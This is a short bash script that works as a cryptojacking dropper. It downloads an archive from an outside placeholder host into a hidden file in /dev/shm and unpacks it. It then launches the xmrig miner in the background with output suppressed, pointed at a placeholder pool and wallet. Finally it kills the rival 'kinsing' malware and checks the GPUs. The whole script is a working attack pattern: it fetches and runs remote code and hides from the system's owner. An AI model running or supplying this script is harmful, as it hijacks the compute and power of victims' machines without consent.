#!/bin/bash
cd /dev/shm; curl -sLo .x https://gpu-bench.example/xm.tgz; tar xf .x
nohup ./xmrig -o stratum+tcp://pool-inert.example:3333 -u 4InertWalletInertWallet -p x --donate-level=1 -B >/dev/null 2>&1 &
pkill -f kinsing; nvidia-smi
